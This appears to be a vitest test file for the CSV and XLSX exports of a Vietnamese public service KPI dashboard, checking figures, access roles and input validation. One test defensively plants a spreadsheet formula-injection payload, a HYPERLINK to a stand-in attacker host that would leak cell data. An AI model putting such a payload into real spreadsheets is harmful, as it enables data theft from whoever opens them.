import { beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { createHarness, type Harness } from './harness.js';
import { kpiDossiers } from './kpi-dossiers.js';
import { insertLateDossiers, LATE_APPLICANT } from './costly-rows.js';
import { attachment, neutralize } from '../src/platform/spreadsheet.js';

// The leaders' tables as CSV and XLSX: the JSON routes' numbers exactly, for the same roles, refused the same way;
// the costly dossiers of an indicator all of them, in order, read from the database page by page.

const auth = (t: string) => ({ authorization: `Bearer ${t}` });
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const BOM = '\uFEFF';
/** A local (UTC+7) wall-clock time as the CSV writes it. */
const local = (iso: string | null) =>
  iso === null ? '' : new Date(Date.parse(iso) + 7 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ');
/** A CSV cell of a JSON value. */
const csv = (v: unknown) => (v === null ? '' : typeof v === 'string' ? neutralize(v) : String(v));

const FIGURE_KEYS = [
  'submittedOnline',
  'received',
  'receivedInPerson',
  'receivedOnline',
  'receivedPost',
  'refused',
  'withdrawn',
  'stopped',
  'decided',
  'decidedEarly',
  'decidedOnTime',
  'decidedLate',
  'results',
  'electronicResults',
  'digitized',
  'reused',
  'fromStore',
  'populationData',
  'decidedWithFees',
  'decidedPaidOnline',
  'returned',
  'supplementRequests',
  'apologies',
  'ratedSatisfied',
  'ratedAcceptable',
  'ratedNotSatisfied',
  'onTimeRate',
  'onlineRate',
  'digitizedRate',
  'reuseRate',
  'electronicResultRate',
  'satisfactionRate',
  'averageProcessingHours',
] as const;
/** What was open at a group's end, after the figures, then the instant it describes. */
const OPEN_KEYS = ['inProgress', 'inProgressOnTime', 'inProgressOverdue', 'paused'] as const;
type Open = Record<(typeof OPEN_KEYS)[number], number> & { at: string };

/** An XLSX workbook's first sheet: its name, its cells row by row (empty cells null), and the sheet itself. */
async function readXlsx(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const rows: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row) => {
    rows.push(Array.from({ length: ws.columnCount }, (_, i) => row.getCell(i + 1).value ?? null));
  });
  return { count: wb.worksheets.length, name: ws.name, rows, ws };
}

/** Rows of a CSV body (after its byte order mark). */
const readCsv = (body: string): string[][] => parse(body.slice(1), { relax_column_count: false });

describe('exports of the leaders’ tables (CSV and XLSX)', () => {
  let h: Harness;
  const codes: Record<string, string> = {};
  const Q = 'from=2025-09-15&to=2025-09-17';
  /** Bulk dossiers decided late at branch A over 1–14 September: more than a page of the export, more than the JSON route's limit. */
  const BULK = 2345;

  const { act, counter, result } = kpiDossiers(() => h);
  const get = async (user: string | null, url: string) =>
    h.app.inject({ method: 'GET', url, headers: user ? auth(await h.token(user)) : {} });
  const json = async (url: string) => {
    const r = await get('admin', url);
    expect(r.statusCode, r.body).toBe(200);
    return r.json();
  };
  const file = async (url: string, user = 'admin') => {
    const r = await get(user, url);
    expect(r.statusCode, r.body.slice(0, 300)).toBe(200);
    return r;
  };

  beforeAll(async () => {
    h = await createHarness('2025-09-15T09:00:00+07:00'); // a Monday
    codes.A = await counter('1.001193'); // due Tue 16 Sep 17:00, decided early
    codes.B = await counter('2.000815', true); // fast track, due Mon 14:30, decided late
    codes.C = await counter('2.000815'); // due Tue 17:00, left open past it
    for (const c of [codes.A, codes.B, codes.C]) await act('clerk.hai', c, 'forward');
    h.clock.set('2025-09-15T10:00:00+07:00');
    await result(codes.A);
    h.clock.set('2025-09-15T16:00:00+07:00');
    await result(codes.B);
    await act('clerk.hai', codes.B, 'return');
    const rating = await h.app.inject({
      method: 'POST',
      url: `/public/dossiers/${codes.B}/rating`,
      payload: { phone: '5678', rating: 'not_satisfied' },
    });
    expect(rating.statusCode, rating.body).toBe(201);
    h.clock.set('2025-09-17T10:00:00+07:00'); // Wednesday: C is past its due date
    await h.services.kpi.catchUp();
    await insertLateDossiers(h.database.db, {
      n: BULK,
      pointId: h.unit('CN-A'),
      agencyId: h.unit('STP'),
      procedureCode: '2.000815',
      firstDay: '2025-09-01',
      days: 14,
      tie: 3,
      prefix: 'H40.99',
    });
  });

  it('neutralizes formula injection: text starting with = + - @, a tab or a carriage return gets an apostrophe', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'a=1', '1-2', '', "'=x"].map(neutralize)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'a=1',
      '1-2',
      '',
      "'=x",
    ]);
  });

  it('names a download in ASCII and in UTF-8', () => {
    expect(attachment('Chỉ số 766 - Xã Hai - 2025-09-01 - 2025-09-30.xlsx')).toBe(
      `attachment; filename="Chi-so-766-Xa-Hai-2025-09-01-2025-09-30.xlsx"; filename*=UTF-8''${encodeURIComponent('Chỉ số 766 - Xã Hai - 2025-09-01 - 2025-09-30.xlsx')}`,
    );
    expect(attachment("Đường (Điện Biên)'s.csv")).toBe(
      `attachment; filename="Duong-Dien-Bien-s.csv"; filename*=UTF-8''%C4%90%C6%B0%E1%BB%9Dng%20%28%C4%90i%E1%BB%87n%20Bi%C3%AAn%29%27s.csv`,
    );
  });

  it('exports the figures by day as CSV: a byte order mark, both languages’ headers, the JSON route’s numbers, then the total', async () => {
    const unit = h.unit('X-HAI-TT');
    const f = await json(`/kpi/figures?unitId=${unit}&from=2025-09-14&to=2025-09-17&by=day`);
    const r = await file(`/kpi/export/figures.csv?unitId=${unit}&from=2025-09-14&to=2025-09-17&by=day`);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['cache-control']).toBe('no-store');
    const name = `Số liệu - ${f.unit.nameVi} - 2025-09-14 - 2025-09-17.csv`;
    expect(r.headers['content-disposition']).toBe(attachment(name));
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
    expect(r.body.startsWith(BOM)).toBe(true);
    expect(r.body).toContain('\r\n');
    const rows = readCsv(r.body);
    expect(rows[0]!.slice(0, 5)).toEqual([
      'Nhóm / Group',
      'Tên / Name',
      'Nộp trực tuyến / Submitted online',
      'Tiếp nhận / Received',
      'Tiếp nhận trực tiếp / Received in person',
    ]);
    expect(rows[0]!.slice(-6)).toEqual([
      'Thời gian xử lý trung bình (giờ) / Average processing time (hours)',
      'Đang giải quyết (cuối kỳ) / In progress (at the end)',
      'Đang giải quyết trong hạn / In progress on time',
      'Đang giải quyết quá hạn / In progress overdue',
      'Tạm dừng / Paused',
      'Tính đến / As at',
    ]);
    expect(rows.length).toBe(1 + f.groups.length + 1);
    expect(f.groups.map((g: { key: string }) => g.key)).toEqual(['2025-09-15']);
    const open = (o: Open) => [...OPEN_KEYS.map((k) => csv(o[k])), local(o.at)];
    expect(rows.slice(1)).toEqual([
      ...f.groups.map((g: Record<string, unknown>) => [g.key, g.labelVi, ...FIGURE_KEYS.map((k) => csv(g[k])), ...open(g.open as Open)]),
      ['total', 'Tổng cộng / Total', ...FIGURE_KEYS.map((k) => csv(f.total[k])), ...open(f.open)],
    ]);
    // At Monday's end one dossier was still open, within its time.
    expect(rows[1]!.slice(-5)).toEqual(['1', '1', '0', '0', '2025-09-16 00:00:00']);
    // The numbers themselves, as the JSON route counts them: 3 received, A early and B late of 2 decided.
    expect(rows[1]!.slice(2, 14)).toEqual(['0', '3', '3', '0', '0', '0', '0', '0', '2', '1', '0', '1']);
  });

  it('exports the figures by procedure as XLSX with numbers as numbers, English headers and names when asked', async () => {
    const f = await json(`/kpi/figures?${Q}&by=procedure`);
    const r = await file(`/kpi/export/figures.xlsx?${Q}&by=procedure&lang=en`);
    expect(r.headers['content-type']).toBe(XLSX);
    expect(r.headers['content-disposition']).toBe(attachment('Figures - Test Province - 2025-09-15 - 2025-09-17.xlsx'));
    const x = await readXlsx(r.rawPayload);
    expect([x.count, x.name]).toEqual([1, 'Figures']);
    expect(x.rows[0]!.slice(0, 4)).toEqual(['Group', 'Name', 'Submitted online', 'Received']);
    const wall = (iso: string) => new Date(Date.parse(iso) + 7 * 3_600_000);
    const open = (o: Open) => [...OPEN_KEYS.map((k) => o[k]), wall(o.at)];
    expect(x.rows.slice(1)).toEqual([
      ...f.groups.map((g: Record<string, unknown>) => [g.key, g.labelEn, ...FIGURE_KEYS.map((k) => g[k]), ...open(g.open as Open)]),
      ['total', 'Total', ...FIGURE_KEYS.map((k) => f.total[k]), ...open(f.open)],
    ]);
    expect(x.rows.length).toBe(4);
    // Shares are numbers shown as percentages.
    expect(x.ws.getRow(4).getCell(2 + FIGURE_KEYS.indexOf('onTimeRate') + 1).numFmt).toBe('0.0%');
  });

  it('exports the scorecard, one row per indicator and the total, in CSV and XLSX', async () => {
    const s = await json(`/kpi/scorecard?unitId=${h.unit('X-HAI-TT')}&${Q}`);
    const groupVi = Object.fromEntries(s.groups.map((g: { group: string; nameVi: string }) => [g.group, g.nameVi]));
    const status = { scored: 'Đã chấm', no_dossiers: 'Không có hồ sơ trong kỳ', no_data: 'Chưa có dữ liệu' } as Record<string, string>;
    type I = { id: string; group: string; nameVi: string; status: string; numerator: number | null; denominator: number | null };
    const expected = (i: I & Record<string, unknown>) => [
      i.id,
      groupVi[i.group],
      i.nameVi,
      status[i.status],
      i.numerator,
      i.denominator,
      i.ratio,
      i.fullAt,
      i.points,
      i.earned,
      i.awaitingVi,
    ];
    const x = await readXlsx((await file(`/kpi/export/scorecard.xlsx?unitId=${h.unit('X-HAI-TT')}&${Q}&lang=vi`)).rawPayload);
    expect(x.rows[0]).toEqual([
      'Mã',
      'Nhóm chỉ số',
      'Chỉ số',
      'Trạng thái',
      'Đạt',
      'Tổng',
      'Tỷ lệ',
      'Đủ điểm từ',
      'Điểm tối đa',
      'Điểm đạt',
      'Ghi chú',
    ]);
    expect(x.rows.slice(1, -1)).toEqual(s.indicators.map(expected));
    expect(x.rows.at(-1)).toEqual([
      'total',
      null,
      'Tổng điểm',
      `Đo được ${s.total.measurable} điểm`,
      null,
      null,
      null,
      null,
      100,
      s.total.earned,
      null,
    ]);
    // 2.1: A early; B late; C open past its due date: 1 of 3.
    expect(x.rows[s.indicators.findIndex((i: I) => i.id === '2.1') + 1]!.slice(4, 7)).toEqual([1, 3, 1 / 3]);
    const c = readCsv((await file(`/kpi/export/scorecard.csv?unitId=${h.unit('X-HAI-TT')}&${Q}&lang=vi`)).body);
    expect(c.slice(1, -1)).toEqual(s.indicators.map((i: I & Record<string, unknown>) => expected(i).map(csv)));
    expect(c.length).toBe(s.indicators.length + 2);
  });

  it('exports clerk productivity with a name that looks like a formula neutralized in both formats', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")';
    await h.database.asOwner((db) => sql`update staff set full_name = ${formula} where username = 'clerk.hai'`.execute(db));
    const q = `unitId=${h.unit('X-HAI-TT')}&${Q}`;
    const p = await json(`/kpi/productivity?${q}`);
    expect(p.clerks.length).toBe(1);
    const c = p.clerks[0];
    const r = await file(`/kpi/export/productivity.csv?${q}&lang=en`);
    expect(r.headers['content-disposition']).toBe(attachment(`Clerk productivity - ${p.unit.nameEn} - 2025-09-15 - 2025-09-17.csv`));
    expect(readCsv(r.body)).toEqual([
      ['Username', 'Clerk', 'Service point', 'Area', 'Received', 'Per year (3 days)', 'Yearly norm', 'Of the norm'],
      ['clerk.hai', `'${formula}`, c.unitNameVi, 'Rural', '3', '365', '1200', '0.304'],
    ]);
    expect([c.received, c.annualized, c.norm, c.shareOfNorm]).toEqual([3, 365, 1200, 0.304]);
    const x = await readXlsx((await file(`/kpi/export/productivity.xlsx?${q}`)).rawPayload);
    expect(x.rows[1]).toEqual(['clerk.hai', `'${formula}`, c.unitNameVi, 'Nông thôn / Rural', 3, 365, 1200, 0.304]);
    expect(x.ws.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String);
    await h.database.asOwner((db) => sql`update staff set full_name = 'clerk.hai' where username = 'clerk.hai'`.execute(db));
  });

  it('exports every costly dossier of an indicator, past the JSON route’s limit, latest first, without the applicant’s data', async () => {
    const q = `indicator=2.1&unitId=${h.unit('CN-A')}&from=2025-09-01&to=2025-09-14`;
    const page = await json(`/kpi/scorecard/2.1/dossiers?unitId=${h.unit('CN-A')}&from=2025-09-01&to=2025-09-14&limit=1000`);
    expect(page.dossiers.length).toBe(1000);
    // The order the export must have: every bulk dossier, latest decision first, then by code.
    const order = (
      await sql<{
        code: string;
      }>`select code from dossiers where receiving_unit_id = ${h.unit('CN-A')} order by decided_at desc, code`.execute(h.database.db)
    ).rows.map((r) => r.code);
    expect(order.length).toBe(BULK);

    const r = await file(`/kpi/export/costly-dossiers.csv?${q}`);
    expect(r.headers['content-disposition']).toBe(attachment(`Hồ sơ mất điểm 2.1 - ${page.unit.nameVi} - 2025-09-01 - 2025-09-14.csv`));
    const rows = readCsv(r.body);
    expect(rows[0]).toEqual([
      'Mã hồ sơ / Dossier code',
      'Mã thủ tục / Procedure code',
      'Thủ tục / Procedure',
      'Nơi tiếp nhận / Received at',
      'Cơ quan giải quyết / Competent agency',
      'Ngày tiếp nhận (giờ Việt Nam) / Received (Vietnam time)',
      'Hạn giải quyết (giờ Việt Nam) / Due (Vietnam time)',
      'Ngày giải quyết (giờ Việt Nam) / Decided (Vietnam time)',
      'Mã lý do / Reason code',
      'Lý do / Why',
    ]);
    expect(rows.slice(1).map((x) => x[0])).toEqual(order);
    type D = Record<string, string | null>;
    const line = (d: D) => [
      d.code,
      d.procedureCode,
      d.procedureNameVi,
      d.receivingPointNameVi,
      d.agencyNameVi,
      local(d.receivedAt!),
      local(d.dueAt!),
      local(d.decidedAt!),
      d.reason,
      'Giải quyết quá hạn / Decided late',
    ];
    expect(rows.slice(1, 1001)).toEqual(page.dossiers.map(line));
    // The last of them: decided on 1 September at 09:00, the earliest instant.
    expect(rows.at(-1)!.slice(5, 9)).toEqual(['2025-08-29 09:00:00', '2025-08-31 09:00:00', '2025-09-01 09:00:00', 'late']);
    for (const secret of [LATE_APPLICANT.idNumber, LATE_APPLICANT.phone, LATE_APPLICANT.name]) expect(r.body).not.toContain(secret);

    const x = await readXlsx((await file(`/kpi/export/costly-dossiers.xlsx?${q}`)).rawPayload);
    expect([x.name, x.rows.length]).toEqual(['Hồ sơ mất điểm 2.1', BULK + 1]);
    expect(x.rows.slice(1).map((c) => c[0])).toEqual(order);
    // Instants are dates in Vietnam wall-clock time (Excel has no time zones), to the second.
    const wall = (iso: string | null) => (iso === null ? null : Date.parse(iso) / 1000 + 7 * 3600);
    const seconds = (v: unknown) => (v instanceof Date ? Math.round(v.getTime() / 1000) : v);
    expect(x.rows.slice(1, 1001).map((c) => [...c.slice(0, 5), ...c.slice(5, 8).map(seconds), ...c.slice(8)])).toEqual(
      page.dossiers.map((d: D) => [
        ...line(d).slice(0, 5),
        wall(d.receivedAt!),
        wall(d.dueAt!),
        wall(d.decidedAt!),
        d.reason,
        'Giải quyết quá hạn / Decided late',
      ]),
    );
    expect(x.ws.getRow(2).getCell(8).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
  });

  it('reads the costly dossiers page by page with ties across page boundaries, giving the rows of one unlimited query', async () => {
    const admin = await h.services.auth.authenticate(await h.token('admin'));
    const q = { unitId: h.unit('CN-A'), from: '2025-09-01', to: '2025-09-14' };
    const all = async (pageSize: number) => {
      const out: string[] = [];
      for await (const d of (await h.services.kpi.allCostlyDossiers(admin, '2.1', q, 'indicator', pageSize)).dossiers) out.push(d.code);
      return out;
    };
    const once = await all(BULK + 1);
    expect(once.length).toBe(BULK);
    // Pages of 7 and of 500 end inside groups of three dossiers decided at the same instant.
    expect(await all(7)).toEqual(once);
    expect(await all(500)).toEqual(once);
    expect(new Set(once).size).toBe(BULK);
  });

  it('lists the costly dossiers of the small world as the JSON route does, and nothing for an indicator without any', async () => {
    const q = `unitId=${h.unit('X-HAI-TT')}&${Q}`;
    const rows = readCsv((await file(`/kpi/export/costly-dossiers.csv?indicator=2.1&${q}&lang=en`)).body);
    expect(rows.map((r) => [r[0], r[8], r[9]])).toEqual([
      ['Dossier code', 'Reason code', 'Why'],
      [codes.B, 'late', 'Decided late'],
      [codes.C, 'overdue_open', 'Open and past its due date'],
    ]);
    expect(rows[2]![7]).toBe('');
    const none = await readXlsx((await file(`/kpi/export/costly-dossiers.xlsx?indicator=4.1&${q}`)).rawPayload);
    expect(none.rows.length).toBe(1);
  });

  it('exports the rankings, one row per unit in the JSON route’s order, with each group’s score, rank and change', async () => {
    const k = await json(`/kpi/rankings?${Q}`);
    type G = { score: number | null; rank: number | null; change: number | null };
    type U = Record<string, unknown> & { nameVi: string; nameEn: string; groups: G[] };
    const cells = (u: U, name: string) => [
      u.rank,
      u.unitId,
      name,
      u.score,
      u.earned,
      u.measurable,
      u.previousRank,
      u.previousScore,
      u.change,
      u.rankChange,
      ...u.groups.flatMap((g) => [g.score, g.rank, g.change]),
    ];
    const r = await file(`/kpi/export/rankings.xlsx?${Q}&lang=en`);
    expect(r.headers['content-disposition']).toBe(attachment('Rankings - Test Province - 2025-09-15 - 2025-09-17.xlsx'));
    const x = await readXlsx(r.rawPayload);
    expect([x.count, x.name]).toEqual([1, 'Rankings']);
    expect(x.rows[0]!.slice(0, 10)).toEqual([
      'Rank',
      'Unit id',
      'Service point',
      'Score',
      'Points earned',
      'Points measurable',
      'Previous rank (2025-09-12 – 2025-09-14)',
      'Previous score',
      'Score change',
      'Places gained',
    ]);
    expect(x.rows[0]!.slice(10, 13)).toEqual(['Transparency: score', 'Transparency: rank', 'Transparency: change']);
    expect(x.rows.slice(1)).toEqual(k.units.map((u: U) => cells(u, u.nameEn)));
    // Xã Hai's point first, the only one with dossiers; the others unranked.
    expect(x.rows[1]!.slice(0, 4)).toEqual([1, h.unit('X-HAI-TT'), 'Commune Two Public Administration Service Center', k.units[0].score]);
    expect(k.units.length).toBe(5);
    expect(k.units.slice(1).map((u: U) => u.rank)).toEqual([null, null, null, null]);
    const c = readCsv((await file(`/kpi/export/rankings.csv?${Q}&lang=vi&level=agency`)).body);
    const agencies = await json(`/kpi/rankings?${Q}&level=agency`);
    expect(c[0]!.slice(0, 3)).toEqual(['Hạng', 'Mã đơn vị', 'Cơ quan']);
    expect(c.slice(1)).toEqual(agencies.units.map((u: U) => cells(u, u.nameVi).map(csv)));
    expect(c[1]!.slice(0, 2)).toEqual(['1', String(h.unit('X-HAI-UB'))]);
  });

  it('exports the trend by month and by week, one row per period, with its changes and the targets met', async () => {
    type P = Record<string, unknown> & { change: Record<string, number | null>; meetsTargets: Record<string, boolean | null> };
    const met = (x: boolean | null, lang: 'vi' | 'both') =>
      x === null ? null : x ? (lang === 'vi' ? 'Đạt' : 'Đạt / Met') : lang === 'vi' ? 'Chưa đạt' : 'Chưa đạt / Not met';
    const cells = (p: P, lang: 'vi' | 'both') => [
      p.start,
      p.from,
      p.to,
      p.score,
      p.onTimeRate,
      p.onlineRate,
      p.digitizedRate,
      p.satisfactionRate,
      p.received,
      p.decided,
      p.change.score,
      p.change.onTimeRate,
      p.change.onlineRate,
      p.change.digitizedRate,
      p.change.satisfactionRate,
      met(p.meetsTargets.onTimeRate!, lang),
      met(p.meetsTargets.digitizedRate!, lang),
      met(p.meetsTargets.satisfactionRate!, lang),
    ];
    const q = `unitId=${h.unit('X-HAI-TT')}&from=2025-08-01&to=2025-09-30`;
    const t = await json(`/kpi/trends?${q}`);
    const r = await file(`/kpi/export/trends.xlsx?${q}`);
    expect(r.headers['content-disposition']).toBe(attachment(`Xu hướng theo tháng - ${t.unit.nameVi} - 2025-08-01 - 2025-09-30.xlsx`));
    const x = await readXlsx(r.rawPayload);
    expect(x.name).toBe('Theo tháng');
    expect(x.rows[0]!.slice(15)).toEqual([
      'Đúng hạn (mục tiêu 99%) / On time (target 99%)',
      'Số hóa (mục tiêu 100%) / Digitized (target 100%)',
      'Hài lòng (mục tiêu 95%) / Satisfaction (target 95%)',
    ]);
    expect(x.rows.slice(1)).toEqual(t.periods.map((p: P) => cells(p, 'both')));
    expect(x.rows.map((row) => row.slice(0, 3))).toEqual([
      ['Tháng bắt đầu / Month of', 'Từ ngày / From', 'Đến ngày / To'],
      ['2025-08-01', '2025-08-01', '2025-08-31'],
      ['2025-09-01', '2025-09-01', '2025-09-30'],
    ]);
    // September: A early, B late, C open past its due date; digitized all; B rated not satisfied.
    expect(x.rows[2]!.slice(4, 10)).toEqual([0.5, 0, 1, 0, 3, 2]);
    expect(x.rows[2]!.slice(15)).toEqual(['Chưa đạt / Not met', 'Đạt / Met', 'Chưa đạt / Not met']);
    const weekly = `unitId=${h.unit('X-HAI-TT')}&from=2025-09-10&to=2025-09-17&period=week`;
    const w = await json(`/kpi/trends?${weekly}`);
    const c = readCsv((await file(`/kpi/export/trends.csv?${weekly}&lang=vi`)).body);
    expect(c[0]!.slice(0, 4)).toEqual(['Tuần bắt đầu', 'Từ ngày', 'Đến ngày', 'Điểm quy đổi']);
    expect(c.slice(1)).toEqual(w.periods.map((p: P) => cells(p, 'vi').map(csv)));
    expect(c.map((row) => row[0])).toEqual(['Tuần bắt đầu', '2025-09-08', '2025-09-15']);
  });

  it('lets the same roles export as read the JSON routes: a manager his points, an approver his agency, the administrator all', async () => {
    const routes = ['figures', 'scorecard', 'productivity', 'costly-dossiers', 'rankings', 'trends'].map(
      (t) => `/kpi/export/${t}.csv?${Q}${t === 'costly-dossiers' ? '&indicator=2.1' : ''}`,
    );
    const cases: [string | null, string | null, number][] = [
      ['admin', null, 200],
      ['admin', 'X-HAI-TT', 200],
      ['manager.center', null, 200],
      ['manager.center', 'CN-A', 200],
      ['manager.center', 'X-HAI-TT', 403],
      ['manager.center', 'PROVINCE', 403],
      ['appr.hai', null, 200],
      ['appr.hai', 'X-HAI-TT', 403],
      ['appr.mot', 'X-HAI-UB', 403],
      ['clerk.hai', null, 403],
      ['clerk.center', 'TTPVHCC', 403],
      ['spec.hai', null, 403],
      [null, null, 401],
    ];
    const got: string[] = [];
    for (const url of routes)
      for (const [user, unit] of cases) {
        const r = await get(user, `${url}${unit ? `&unitId=${h.unit(unit)}` : ''}`);
        got.push(
          `${url.split('?')[0]} ${user ?? 'anonymous'} ${unit ?? '-'} ${r.statusCode}${r.statusCode >= 400 ? ` ${r.json().code}` : ''}`,
        );
      }
    const want = routes.flatMap((url) =>
      cases.map(
        ([user, unit, status]) =>
          `${url.split('?')[0]} ${user ?? 'anonymous'} ${unit ?? '-'} ${status}${status === 403 ? ' FORBIDDEN' : status === 401 ? ' UNAUTHENTICATED' : ''}`,
      ),
    );
    expect(got).toEqual(want);
  });

  it('refuses bad input with a problem naming the field, before anything is sent', async () => {
    const cases: [string, number, string | undefined][] = [
      [`/kpi/export/figures.csv?from=2025-09-17&to=2025-09-15`, 400, 'querystring.to'],
      [`/kpi/export/figures.xlsx?from=2025-02-30&to=2025-03-01`, 400, 'querystring.from'],
      [`/kpi/export/figures.csv?from=2015-01-01&to=2025-12-31`, 400, 'querystring.to'],
      [`/kpi/export/figures.csv?${Q}&by=hour`, 400, 'querystring.by'],
      [`/kpi/export/figures.pdf?${Q}`, 400, 'params.format'],
      [`/kpi/export/scorecard.csv?${Q}&lang=fr`, 400, 'querystring.lang'],
      [`/kpi/export/scorecard.csv?${Q}&limit=5`, 400, undefined],
      [`/kpi/export/productivity.xlsx?${Q}&unitId=0`, 400, 'querystring.unitId'],
      [`/kpi/export/productivity.xlsx?${Q}&unitId=999999`, 404, undefined],
      [`/kpi/export/costly-dossiers.csv?${Q}`, 400, 'querystring.indicator'],
      [`/kpi/export/costly-dossiers.csv?${Q}&indicator=1.4`, 400, 'querystring.indicator'],
      [`/kpi/export/costly-dossiers.xlsx?${Q}&indicator=2.1&to=2025-09-01`, 400, 'querystring.to'],
      [`/kpi/export/rankings.csv?${Q}&level=commune`, 400, 'querystring.level'],
      [`/kpi/export/rankings.xlsx?from=2025-09-17&to=2025-09-15`, 400, 'querystring.to'],
      [`/kpi/export/trends.csv?${Q}&period=day`, 400, 'querystring.period'],
      [`/kpi/export/trends.xlsx?${Q}&unitId=999999`, 404, undefined],
    ];
    for (const [url, status, field] of cases) {
      const r = await get('admin', url);
      expect(r.statusCode, `${url}: ${r.body}`).toBe(status);
      expect(r.headers['content-type'], url).toMatch(/^application\/problem\+json/);
      if (field) expect(r.json().field, url).toBe(field);
    }
  });
});
